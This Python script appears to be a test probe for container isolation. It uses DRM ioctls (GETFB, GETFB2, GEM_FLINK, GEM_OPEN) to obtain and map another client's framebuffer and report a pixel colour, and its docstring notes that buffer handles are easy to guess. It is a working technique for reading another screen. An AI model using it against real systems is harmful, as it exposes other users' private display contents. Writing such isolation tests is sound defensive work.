#!/usr/bin/env python3
"""Reads a framebuffer through a DRM file, as a hostile container would
read another's screen: asks for a GEM handle of the framebuffer, maps it
and prints the colour of its centre pixel as JSON.

  fb-spy.py FD FB_ID getfb        DRM_IOCTL_MODE_GETFB
  fb-spy.py FD FB_ID getfb2       DRM_IOCTL_MODE_GETFB2
  fb-spy.py FD FB_ID getfb-short  GETFB with a size that leaves the handle
                                  out of the reply (the kernel makes it all
                                  the same, and handles are easy to guess)
  fb-spy.py FD FB_ID flink        GETFB, then names the buffer with
                                  DRM_IOCTL_GEM_FLINK: {"errno": 0, "name": N}
  fb-spy.py FD NAME gem-open      DRM_IOCTL_GEM_OPEN of a flinked name; the
                                  colour is the buffer's middle pixel

Prints {"errno": N} when the request is refused, {"errno": 0} for a
request that gets no handle back, else {"errno": 0, "colour": "rrggbb"}.
"""
import fcntl
import json
import mmap
import struct
import sys

FB_CMD = struct.Struct("IIIIIII")               # struct drm_mode_fb_cmd
FB_CMD2 = struct.Struct("IIIII4I4I4I4Q")        # struct drm_mode_fb_cmd2
MAP_DUMB = struct.Struct("IIQ")                 # struct drm_mode_map_dumb
GEM_FLINK = struct.Struct("II")                 # struct drm_gem_flink
GEM_OPEN = struct.Struct("IIQ")                 # struct drm_gem_open


def iowr(nr, size):
    return (3 << 30) | (size << 16) | (ord("d") << 8) | nr


GETFB, GETFB2, MAP_DUMB_IOCTL, FLINK, OPEN = 0xAD, 0xCE, 0xB3, 0x0A, 0x0B


def pixel(fd, handle, size, at):
    req = bytearray(MAP_DUMB.pack(handle, 0, 0))
    fcntl.ioctl(fd, iowr(MAP_DUMB_IOCTL, MAP_DUMB.size), req)
    offset = MAP_DUMB.unpack(req)[2]
    with mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ, offset=offset) as m:
        b, g, r = m[at], m[at + 1], m[at + 2]  # XRGB8888, little-endian
    return f"{r:02x}{g:02x}{b:02x}"


def centre_colour(fd, handle, width, height, pitch):
    return pixel(fd, handle, pitch * height, (height // 2) * pitch + (width // 2) * 4)


def getfb(fd, fb_id):
    req = bytearray(FB_CMD.pack(fb_id, 0, 0, 0, 0, 0, 0))
    fcntl.ioctl(fd, iowr(GETFB, FB_CMD.size), req)
    _, width, height, pitch, _, _, handle = FB_CMD.unpack(req)
    return width, height, pitch, handle


def main():
    fd, fb_id, how = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    try:
        if how == "getfb2":
            req = bytearray(FB_CMD2.pack(fb_id, *[0] * 20))
            fcntl.ioctl(fd, iowr(GETFB2, FB_CMD2.size), req)
            v = FB_CMD2.unpack(req)
            width, height, handle, pitch = v[1], v[2], v[5], v[9]
        elif how == "getfb-short":
            req = bytearray(struct.pack("II", fb_id, 0))
            fcntl.ioctl(fd, iowr(GETFB, len(req)), req)
            handle = 0
        elif how == "flink":
            handle = getfb(fd, fb_id)[3]
            req = bytearray(GEM_FLINK.pack(handle, 0))
            fcntl.ioctl(fd, iowr(FLINK, GEM_FLINK.size), req)
            print(json.dumps({"errno": 0, "name": GEM_FLINK.unpack(req)[1]}))
            return 0
        elif how == "gem-open":
            req = bytearray(GEM_OPEN.pack(fb_id, 0, 0))
            fcntl.ioctl(fd, iowr(OPEN, GEM_OPEN.size), req)
            _, handle, size = GEM_OPEN.unpack(req)
            print(json.dumps({"errno": 0, "colour": pixel(fd, handle, size, size // 2 // 4 * 4)}))
            return 0
        else:
            width, height, pitch, handle = getfb(fd, fb_id)
    except OSError as e:
        print(json.dumps({"errno": e.errno}))
        return 0
    out = {"errno": 0}
    if handle:
        out["colour"] = centre_colour(fd, handle, width, height, pitch)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
